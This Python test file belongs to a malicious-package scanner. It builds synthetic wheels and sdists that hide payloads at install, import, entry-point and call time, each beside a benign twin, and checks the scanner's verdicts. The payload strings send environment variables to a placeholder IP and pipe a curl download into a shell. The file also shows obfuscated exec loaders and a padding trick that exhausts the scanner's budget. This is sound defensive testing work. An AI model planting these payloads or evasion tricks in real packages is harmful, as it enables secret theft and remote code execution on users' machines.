"""Payloads wherever a package can run them, each beside a benign twin (issue: judge
exactly what gets installed). Every fixture is a synthetic package written here and
scored by the bundled models through `gate.scan`, as `check` scores a download; no
fixture code ever runs.
"""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

import pytest

from mphunter_gate import gate
from mphunter_gate.gate import GateOptions
from mphunter_gate.types import Finding, Stage, Verdict
from tests.conftest import make_sdist, make_wheel

# Exfiltrates the environment, then pipes a download into a shell (documentation-range
# address; never run).
PAYLOAD = """\
import os, subprocess, urllib.request, base64
def go():
    data = base64.b64encode(repr(dict(os.environ)).encode())
    urllib.request.urlopen("http://203.0.113.7/c", data=data)
    subprocess.Popen(["sh", "-c", "curl -s http://203.0.113.7/x | sh"])
go()
"""
# Only the exfiltration: what a stealer in a module the victim calls does.
ENV_TO_WEB = """\
import os, json, urllib.request

def report():
    data = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("http://203.0.113.7/collect", data=data))
"""
BENIGN = """\
import json

def load(path):
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)
"""
SETUP = "from setuptools import setup\nsetup(name='demo')\n"
BLOB_INIT = (
    "import os, zlib, base64\n"
    "here = os.path.dirname(__file__)\n"
    "exec(zlib.decompress(base64.b64decode(open(os.path.join(here, 'payload.dat')).read())))\n"
)
CFG_SETUP = (
    "import configparser\nfrom setuptools import setup\n"
    "c = configparser.ConfigParser()\nc.read('setup.cfg')\nexec(c['tool']['hook'])\n"
    "setup(name='demo')\n"
)
SYS_PATH_SETUP = (
    "import os, sys\n"
    "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'buildtools'))\n"
    "import prepare\nfrom setuptools import setup\nsetup(name='demo')\n"
)


def _blob(code: str) -> str:
    return base64.b64encode(zlib.compress(code.encode())).decode()


def _cfg(code: str) -> str:
    one_line = f"import base64;exec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))"
    return f"[tool]\nhook = {one_line}\n"


def _deep(payload: str) -> dict[str, str]:
    return {
        "demo/__init__.py": "from . import a\n",
        "demo/a.py": "from . import b\n",
        "demo/b.py": "from . import c\n",
        "demo/c.py": payload,
    }


def _console(payload: str) -> dict[str, str]:
    return {
        "demo/__init__.py": "VERSION = '1'\n",
        "demo/cli.py": payload,
        "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n",
    }


#: name -> (wheel or sdist, files with the payload, files of the benign twin,
#: the file the verdict must name, its stage)
CASES = {
    "three-imports-deep": ("wheel", _deep(PAYLOAD), _deep(BENIGN), "demo/c.py", Stage.IMPORT),
    "console-script": (
        "wheel",
        _console(PAYLOAD),
        _console(BENIGN),
        "demo/cli.py",
        Stage.ENTRY_POINT,
    ),
    "call-time-module": (
        "wheel",
        {"demo/__init__.py": "", "demo/client.py": PAYLOAD},
        {"demo/__init__.py": "", "demo/client.py": BENIGN},
        "demo/client.py",
        Stage.CALL,
    ),
    "package-data-execd": (
        "wheel",
        {"demo/__init__.py": BLOB_INIT, "demo/payload.dat": _blob(PAYLOAD)},
        {"demo/__init__.py": BLOB_INIT, "demo/payload.dat": _blob(BENIGN)},
        "demo/payload.dat",
        Stage.IMPORT,
    ),
    "setup-cfg-execd": (
        "sdist",
        {"setup.py": CFG_SETUP, "setup.cfg": _cfg(PAYLOAD)},
        {"setup.py": CFG_SETUP, "setup.cfg": _cfg(BENIGN)},
        "setup.cfg",
        Stage.INSTALL,
    ),
    "helper-after-sys-path-insert": (
        "sdist",
        {"setup.py": SYS_PATH_SETUP, "buildtools/prepare.py": PAYLOAD},
        {"setup.py": SYS_PATH_SETUP, "buildtools/prepare.py": BENIGN},
        "buildtools/prepare.py",
        Stage.INSTALL,
    ),
}


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Finding]:
    """Every fixture scanned in one run (the models load once)."""
    root = tmp_path_factory.mktemp("stages")
    paths: dict[str, Path] = {}
    for i, (case, (kind, bad, good, _, _)) in enumerate(CASES.items()):
        for twin, files in (("bad", bad), ("good", good)):
            name = f"demo{i}{twin}"
            folder = root / name
            folder.mkdir()
            if kind == "wheel":
                renamed = {
                    k.replace("demo-1.0.dist-info", f"{name}-1.0.dist-info"): v
                    for k, v in files.items()
                }
                paths[f"{case}/{twin}"] = make_wheel(folder, name, "1.0", renamed)
            else:
                paths[f"{case}/{twin}"] = make_sdist(folder, name, "1.0", dict(files))
    paths["budget/bad"] = make_wheel(
        root,
        "budgeted",
        "1.0",
        {"budgeted/__init__.py": "".join(f"print({i})\n" for i in range(25_000)) + PAYLOAD},
    )
    paths["env-to-web/bad"] = make_wheel(
        root, "stealer", "1.0", {"stealer/__init__.py": "", "stealer/client.py": ENV_TO_WEB}
    )
    report = gate.scan([str(p) for p in paths.values()], GateOptions())
    return dict(zip(paths, report.findings, strict=True))


@pytest.mark.parametrize("case", list(CASES))
def test_the_payload_fails_and_its_twin_passes(judged: dict[str, Finding], case: str) -> None:
    _, _, _, where, stage = CASES[case]
    bad, good = judged[f"{case}/bad"], judged[f"{case}/good"]
    assert bad.verdict is Verdict.FAIL, bad.reason
    assert where in bad.reason
    [worst] = [a for a in bad.analyses if a.path.endswith(where)]
    assert worst.stage is stage
    assert good.verdict is Verdict.PASS, good.reason
    assert good.score is not None and bad.score is not None and good.score < bad.score


def test_a_script_that_exhausts_the_analysis_budget_is_unscanned(
    judged: dict[str, Finding],
) -> None:
    """25,000 harmless calls, then the payload: the cut walk never reaches it."""
    finding = judged["budget/bad"]
    assert finding.verdict is Verdict.UNSCANNED
    assert "cut at a size cap or work budget" in finding.reason


@pytest.mark.xfail(
    strict=True,
    reason="the bundled models have no source-to-sink flow feature (os.environ -> network); "
    "needs the behaviour features and retrain of the scoring issue",
)
def test_a_call_time_module_that_sends_the_environment_to_the_web_fails(
    judged: dict[str, Finding],
) -> None:
    assert judged["env-to-web/bad"].verdict is Verdict.FAIL
